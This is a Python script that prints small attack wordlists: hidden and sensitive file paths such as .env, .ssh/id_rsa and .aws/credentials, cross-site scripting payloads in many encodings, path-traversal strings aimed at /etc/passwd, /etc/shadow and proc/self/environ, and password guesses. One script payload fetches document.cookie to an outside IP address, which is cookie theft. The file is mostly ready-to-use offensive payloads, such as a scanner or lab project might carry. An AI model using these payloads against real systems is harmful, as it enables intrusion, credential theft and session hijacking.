"""The project's own small word lists, written to standard output: paths, scripts, climbs, passwords.

They are made by rule from a few common words, not taken from any collection.
"""

import random
import sys

FOLDERS = """admin administrator api app assets auth backup backups bin blog cache cgi config console
content cron css dashboard data database db debug demo dev docs download downloads dump export files
graphql help hidden home images img import include info install internal js lib log login logs mail
manage management manager media metrics monitor new old panel phpinfo phpmyadmin portal private public
report reports root scripts secret secure server-info server-status service services setup shop shell
sql src stage staging static stats status store support swagger system temp test tests tmp tools upload
uploads user users util v1 v2 v3 vendor version web webmail wiki wp-admin wp-content wp-login xml""".split()
HIDDEN = """.env .env.local .env.production .git/HEAD .git/config .gitignore .htaccess .htpasswd .svn/entries
.DS_Store .aws/credentials .ssh/id_rsa .npmrc .dockerenv docker-compose.yml Dockerfile config.json
config.yml config.php.bak database.sql dump.sql backup.zip backup.tar.gz site.tar.gz web.config
actuator/env actuator/heapdump actuator/health swagger.json openapi.json swagger-ui.html
api-docs trace.axd elmah.axd phpinfo.php info.php test.php server-status robots.txt sitemap.xml
crossdomain.xml package.json composer.json id_rsa wp-config.php.bak api/v1/admin api/v1/users
api/v1/debug api/v1/config api/v2/users api/v2/products api/internal/users api/v1/swagger.json""".split()
ENDINGS = ("", "/", ".php", ".bak", ".old", ".zip", ".txt", ".json", ".html", "_old", "2")


def paths():
    words = [w + e for w in FOLDERS for e in ENDINGS] + [f"api/{w}" for w in FOLDERS] \
        + [f"api/v1/{w}" for w in FOLDERS]
    random.Random(5).shuffle(HIDDEN)
    return HIDDEN + words


def scripts():
    calls = ("alert(1)", "alert(document.domain)", "confirm`1`", "prompt(8)", "fetch('//203.0.113.250/'%2Bdocument.cookie)")
    shapes = ("<script>{}</script>", "<img%20src=x%20onerror={}>", "\"><svg/onload={}>", "'><script>{}</script>",
              "<body%20onload={}>", "javascript:{}", "<iframe%20src=javascript:{}>", "%3Cscript%3E{}%3C/script%3E",
              "%253Cscript%253E{}%253C/script%253E", "<details%20open%20ontoggle={}>", "\"%20onfocus={}%20autofocus=\"",
              "<ScRiPt>{}</sCrIpT>", "';{};//", "<a%20href=javascript:{}>x</a>", "%3Csvg%20onload%3D{}%3E")
    return ["lamp", "lamp'", "lamp\"<>"] + [shape.format(call) for call in calls for shape in shapes]


def climbs():
    ups = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "..%5c", "....//", "..%c0%af", "%252e%252e%252f")
    goals = ("etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "etc/passwd%00.jpg")
    rows = ["manual-1"] + [up * depth + goal for goal in goals[:3] for up in ups for depth in (3, 6)]
    return rows + [ups[1] * 4 + goal for goal in goals[3:]] + ["/etc/passwd", "file:///etc/passwd", "c:%5cwindows%5cwin.ini"]


def passwords(right):
    dice = random.Random(11)
    words = "summer winter spring autumn password welcome dragon monkey qwerty letmein shop football".split()
    guesses = [f"{w.capitalize() if dice.random() < 0.5 else w}{dice.choice(('', '1', '!', '123', '2024', '2025', '2026'))}"
               for w in words * 40]
    guesses = list(dict.fromkeys(guesses))
    numbers = [f"{dice.randrange(10**6):06d}" for _ in range(330)]
    return guesses + numbers + [right]


if __name__ == "__main__":
    kinds = {"paths": paths, "scripts": scripts, "climbs": climbs, "passwords": passwords}
    print("\n".join(kinds[sys.argv[1]](*sys.argv[2:])))
